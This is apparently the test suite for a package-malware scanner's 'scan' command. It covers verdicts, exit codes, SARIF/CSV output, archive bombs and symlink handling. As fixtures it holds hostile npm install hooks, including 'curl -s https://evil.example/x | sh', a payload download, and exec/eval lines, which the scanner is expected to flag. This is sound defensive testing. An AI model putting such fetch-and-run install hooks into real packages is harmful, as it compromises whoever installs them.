"""`jurat scan`: the workers' analysis on this machine, without a server or a configuration."""

import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import urllib.parse
import zipfile
from pathlib import Path

import pytest
from support.packages import debian_node_trees, npm_package, tar_gz, wheel
from support.server import BINARY

HOSTILE = dict(scripts={"postinstall": "curl -s https://evil.example/x | sh"})
HELD = dict(scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"})


def scan(*arguments, expect: int | None = 0, cwd=None) -> subprocess.CompletedProcess:
    done = subprocess.run([str(BINARY), "scan", *map(str, arguments)], capture_output=True, text=True, timeout=300, cwd=cwd)
    if expect is not None:
        assert done.returncode == expect, f"{arguments} ended with {done.returncode}\n{done.stdout}\n{done.stderr}"
    assert "\x1b" not in done.stdout, "no colour without a terminal"
    return done


def scan_json(*arguments, expect: int | None = 0) -> list[dict]:
    return json.loads(scan(*arguments, "-o", "json", expect=expect).stdout)


def write(path: Path, content: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


@pytest.fixture(scope="session")
def real_packages(tmp_path_factory, python_index_url) -> Path:
    """What pip and npm themselves download and pack; nothing of it runs."""
    folder = tmp_path_factory.mktemp("real")
    pip = [sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--index-url", python_index_url, "-d", folder]
    subprocess.run([*pip, "--only-binary=:all:", "idna", "six", "toml"], check=True, capture_output=True)
    trees = debian_node_trees()
    for name in [name for name in ("semver", "ansi-styles", "once", "yallist") if name in trees][:3]:
        subprocess.run(
            ["npm", "pack", "--ignore-scripts", str(trees[name])], cwd=folder, check=True, capture_output=True
        )
    return folder


def test_real_packages_are_named_hashed_and_clean(real_packages):
    files = sorted(real_packages.iterdir())
    assert sum(file.suffix == ".whl" for file in files) == 3 and any(file.suffix == ".tgz" for file in files)
    results = scan_json(real_packages)
    assert [result["input"] for result in results] == [str(file) for file in files]
    for file, result in zip(files, results):
        assert list(result) == [
            "input", "purl", "integrity", "verdict", "analyzers", "findings", "capabilities", "unanalyzed",
        ]  # fmt: skip
        digest = base64.b64encode(hashlib.sha512(file.read_bytes()).digest()).decode()
        assert result["integrity"] == f"sha512-{digest}"
        ecosystem = "npm" if file.suffix == ".tgz" else "pypi"
        assert result["purl"].startswith(f"pkg:{ecosystem}/") and "@" in result["purl"]
        assert result["verdict"] == "clean", result
        assert [analyzer["id"] for analyzer in result["analyzers"]] == ["static"]
        for finding in result["findings"]:
            assert list(finding) == ["rule", "severity", "path", "line", "message", "count"]
    lines = [json.loads(line) for line in scan(real_packages, "-o", "jsonl").stdout.splitlines()]
    assert lines == results
    assert scan(real_packages, "-o", "jsonl", "--jobs", "1").stdout == scan(real_packages, "-o", "jsonl").stdout


def test_scan_says_what_the_gateways_worker_says(deploy, npm_upstream, python_upstream, tmp_path):
    package = npm_package("fetches-on-install", "1.4.0", files={"lib/a.js": "require('child_process').exec('id')\n"}, **HELD)
    python = wheel("plain-wheel", "1.0", files={"plain_wheel/a.py": b"import socket\nsocket.socket()\n"})
    server = deploy(npm=npm_upstream([package]).url, pypi=python_upstream([python]).url).start()
    server.get(f"/fetches-on-install/-/{package.filename}")
    page = server.get("/simple/plain-wheel/", {"Accept": "application/vnd.pypi.simple.v1+json"}).json()
    address = urllib.parse.urljoin(f"{server.url}/simple/plain-wheel/", page["files"][0]["url"])
    assert server.get(urllib.parse.urlsplit(address).path).status == 200
    for content, name in ((package.tarball, package.filename), (python.content, python.filename)):
        [scanned] = scan_json(write(tmp_path / "files" / name, content), expect=None)
        why = server.run_json("why", scanned["purl"], expect=None)
        [said] = [statement for statement in why["statements"] if statement["analyzer"] == "static"]
        keys = ("rule", "severity", "path", "line", "count")
        assert [tuple(finding[key] for key in keys) for finding in said["findings"]] == [
            tuple(finding[key] for key in keys) for finding in scanned["findings"]
        ]
        assert said["verdict"] == scanned["verdict"] and said["ruleset"] == scanned["analyzers"][0]["ruleset"]


def test_exit_codes_follow_the_verdict(tmp_path):
    clean = write(tmp_path / "clean.tgz", npm_package("clean", "1.0.0").tarball)
    held = write(tmp_path / "held.tgz", npm_package("held", "1.0.0", **HELD).tarball)
    hostile = write(tmp_path / "hostile.tgz", npm_package("hostile", "1.0.0", **HOSTILE).tarball)
    scan(clean)
    scan(clean, held, expect=3)
    scan(held, "--fail-on", "malicious")
    scan(hostile, "--fail-on", "malicious", expect=3)
    scan(hostile, "--fail-on", "never")
    text = scan(hostile, expect=3)
    assert text.stdout.startswith(f"malicious {hostile} (pkg:npm/hostile@1.0.0)\n")
    assert "package/package.json" in text.stdout and "1 input: 1 malicious" in text.stderr
    shown = scan_json(held, "--min-severity", "malicious", expect=3)[0]
    assert shown["verdict"] == "suspicious" and shown["findings"] == []


def test_wrong_usage_is_said_and_nothing_is_scanned(tmp_path):
    archive = write(tmp_path / "clean.tgz", npm_package("clean", "1.0.0").tarball)
    notes = write(tmp_path / "notes.txt", b"text")
    (tmp_path / "empty").mkdir()
    for arguments, code, words in [
        ([], 2, "needs FILE-OR-DIRECTORY"),
        ([tmp_path / "missing.tgz"], 5, "is not there"),
        ([tmp_path / "empty"], 5, "no unpacked package"),
        ([notes], 2, "--ecosystem"),
        ([archive, "-o", "sarf"], 2, "did you mean sarif"),
        ([archive, "--fail-on", "clean"], 2, "suspicious, malicious, never"),
        ([archive, archive, "--purl", "pkg:npm/clean@1.0.0"], 2, "for one artifact"),
        ([archive, "--purl", "pkg:npm/clean"], 2, "names no version"),
        ([archive, "--memory", "1"], 2, "512M"),
        ([archive, "--config", tmp_path / "missing.yaml"], 6, "missing.yaml"),
        ([archive, "--rules", tmp_path / "empty"], 5, "no rules"),
    ]:
        done = scan(*arguments, expect=code)
        assert words in done.stderr and done.stdout == "", (arguments, done.stderr)
    # Neither a broken configuration in the folder nor none at all matters.
    (tmp_path / "jurat.yaml").write_text("listen: [")
    scan(archive, cwd=tmp_path)


def test_hostile_inputs_are_findings_or_unavailable_and_never_clean(tmp_path):
    good = npm_package("box", "1.0.0").tarball
    bomb = io.BytesIO()
    with tarfile.open(fileobj=bomb, mode="w:gz") as archive:
        entry = tarfile.TarInfo("package/zeros.bin")
        entry.size = 1 << 30
        archive.addfile(entry, _Zeros(entry.size))
    inputs = {
        "truncated.tgz": good[: len(good) // 2],
        "empty.tgz": b"",
        "text.whl": b"not a zip",
        "bomb.tgz": bomb.getvalue(),
        "garbage.tar.gz": os.urandom(4096),
    }
    for name, content in inputs.items():
        [result] = scan_json(write(tmp_path / name, content), expect=None)
        assert result["verdict"] in ("suspicious", "malicious"), (name, result)
        assert result["findings"][0]["severity"] != "info"
    results = scan_json(*sorted(tmp_path.iterdir()), expect=3)
    assert [Path(result["input"]).name for result in results] == sorted(inputs)


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def read(self, size: int = -1) -> bytes:
        count = min(self.left, size if size >= 0 else self.left)
        self.left -= count
        return bytes(count)


def test_what_cannot_be_analysed_is_unavailable_with_its_cause(tmp_path):
    files = {f"{index}.js": "a = 1;\n" * 200_000 for index in range(20)}
    large = write(tmp_path / "large.tgz", npm_package("large", "1.0.0", files=files).tarball)
    clean = write(tmp_path / "clean.tgz", npm_package("clean", "1.0.0").tarball)
    results = scan_json(large, clean, "--memory", "256M", expect=None)
    if results[0]["verdict"] == "unavailable":
        assert results[0]["cause"] == "memory" and results[0]["purl"] is None
        assert scan(large, clean, "--memory", "256M", expect=1).stdout.startswith("unavailable ")
    assert results[1]["verdict"] == "clean"
    if os.geteuid() != 0:
        clean.chmod(0)
        [hidden] = scan_json(clean, expect=1)
        assert hidden["verdict"] == "unavailable"


def test_a_folder_is_analysed_like_the_package_packed_from_it(tmp_path):
    package = npm_package("held", "1.0.0", files={"lib/a.js": "eval(process.env.X)\n"}, **HELD)
    packed = write(tmp_path / "held.tgz", package.tarball)
    with tarfile.open(fileobj=io.BytesIO(package.tarball)) as archive:
        archive.extractall(tmp_path / "work", filter="data")
    folder = tmp_path / "work" / "package"
    write(folder / ".git" / "config", b"[core]")
    write(folder / "node_modules" / "dep" / "package.json", b'{"name":"dep","scripts":{"install":"curl x.example|sh"}}')
    os.symlink("/etc/passwd", folder / "passwd")
    os.symlink(".", folder / "loop")
    [archived] = scan_json(packed, expect=3)
    done = scan(folder, "-o", "json", expect=3)
    [unpacked] = json.loads(done.stdout)
    assert "2 symbolic links were left out" in done.stderr
    assert unpacked["purl"] == archived["purl"] and unpacked["verdict"] == archived["verdict"]
    strip = lambda finding: {**finding, "path": finding["path"] and finding["path"].removeprefix("package/")}
    assert unpacked["findings"] == [strip(finding) for finding in archived["findings"]]
    assert scan_json(folder, expect=3)[0]["integrity"] == unpacked["integrity"], "packed the same twice"


def test_unpacked_wheels_and_source_trees(tmp_path):
    built = wheel("plain-wheel", "1.0")
    with zipfile.ZipFile(io.BytesIO(built.content)) as archive:
        archive.extractall(tmp_path / "wheel")
    [result] = scan_json(tmp_path / "wheel")
    assert result["purl"] == "pkg:pypi/plain-wheel@1.0" and result["verdict"] == "clean"
    write(tmp_path / "source" / "PKG-INFO", b"Metadata-Version: 2.1\nName: src\nVersion: 2.0\n")
    write(tmp_path / "source" / "setup.py", b"from setuptools import setup\nsetup()\n")
    write(tmp_path / "source" / "src.py", b"x = 1\n")
    assert scan_json(tmp_path / "source")[0]["purl"] == "pkg:pypi/src@2.0"


def test_folders_that_contain_themselves_end(tmp_path):
    write(tmp_path / "tree" / "a" / "box.tgz", npm_package("box", "1.0.0").tarball)
    os.symlink("..", tmp_path / "tree" / "a" / "up")
    os.symlink("/", tmp_path / "tree" / "root")
    done = scan(tmp_path / "tree", "-o", "json")
    assert len(json.loads(done.stdout)) == 1 and "2 symbolic links were not followed" in done.stderr


def test_the_name_is_compared_only_with_what_the_user_says(tmp_path):
    archive = write(tmp_path / "box.tgz", npm_package("box", "1.0.0").tarball)
    assert scan_json(archive)[0]["verdict"] == "clean"
    [other] = scan_json(archive, "--purl", "pkg:npm/other@1.0.0", expect=None)
    assert other["purl"] == "pkg:npm/other@1.0.0"
    assert "META-MISMATCH" in [finding["rule"] for finding in other["findings"]]


def test_rules_of_ones_own(tmp_path):
    archive = write(tmp_path / "box.tgz", npm_package("box", "1.0.0", files={"a.js": "var marker_of_mine = 1;\n"}).tarball)
    write(tmp_path / "rules" / "mine.yar", b'rule mine { strings: $a = "marker_of_mine" condition: $a }')
    [result] = scan_json(archive, "--rules", tmp_path / "rules", expect=3)
    assert [finding["rule"] for finding in result["findings"] if finding["severity"] == "suspicious"] == ["YARA:mine"]
    assert result["analyzers"][0]["ruleset"] != scan_json(archive)[0]["analyzers"][0]["ruleset"]
    write(tmp_path / "rules" / "bad.yar", b"rule broken { condition: }")
    assert "bad.yar" in scan(archive, "--rules", tmp_path / "rules", expect=1).stderr


def test_sarif_is_whole(tmp_path):
    held = write(tmp_path / "held box.tgz", npm_package("held", "1.0.0", **HELD).tarball)
    clean = write(tmp_path / "clean.tgz", npm_package("clean", "1.0.0").tarball)
    folder = tmp_path / "src"
    write(folder / "package.json", json.dumps({"name": "src", "version": "1.0.0", **HELD}, indent=1).encode())
    document = json.loads(scan(held, clean, "src", "-o", "sarif", expect=3, cwd=tmp_path).stdout)
    assert document["version"] == "2.1.0" and document["$schema"].endswith("sarif-2.1.0.json")
    [run] = document["runs"]
    driver = run["tool"]["driver"]
    assert driver["name"] == "jurat" and driver["version"]
    rules = driver["rules"]
    assert len({rule["id"] for rule in rules}) == len(rules) > 10
    for rule in rules:
        assert rule["shortDescription"]["text"] and rule["help"]["text"] and rule["help"]["markdown"]
        assert rule["defaultConfiguration"]["level"] in ("note", "warning", "error")
        assert 0 < float(rule["properties"]["security-severity"]) <= 10
    [invocation] = run["invocations"]
    assert invocation["executionSuccessful"] is True and invocation["exitCode"] == 3
    assert run["results"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("note", "warning", "error") and result["message"]["text"]
        assert len(result["partialFingerprints"]["juratFinding/v1"]) == 64
        [location] = result["locations"]
        physical = location["physicalLocation"]
        uri = physical["artifactLocation"]["uri"]
        assert " " not in uri and urllib.parse.urlsplit(uri).scheme in ("", "file")
        if "index" in physical["artifactLocation"]:
            assert run["artifacts"][physical["artifactLocation"]["index"]]["location"]["uri"] == uri
        assert physical.get("region", {"startLine": 1})["startLine"] >= 1
    places = {result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in run["results"]}
    assert "src/package.json" in places and "package/package.json" in places
    roots = [artifact for artifact in run["artifacts"] if "parentIndex" not in artifact]
    assert [artifact["properties"]["verdict"] for artifact in roots] == ["suspicious", "clean", "suspicious"]
    assert all(0 <= artifact.get("parentIndex", 0) < len(run["artifacts"]) for artifact in run["artifacts"])


def test_csv_and_wide_leave_nothing_out(tmp_path):
    held = write(tmp_path / "held.tgz", npm_package("held", "1.0.0", **HELD).tarball)
    [result] = scan_json(held, expect=3)
    rows = scan(held, "-o", "csv", expect=3).stdout.splitlines()
    assert rows[0] == "INPUT,PURL,VERDICT,SEVERITY,RULE,PATH,LINE,COUNT,MESSAGE"
    assert len(rows) == 1 + len(result["findings"])
    wide = scan(held, "-o", "wide", expect=3).stdout
    assert result["integrity"] in wide and all(finding["message"] in wide for finding in result["findings"])
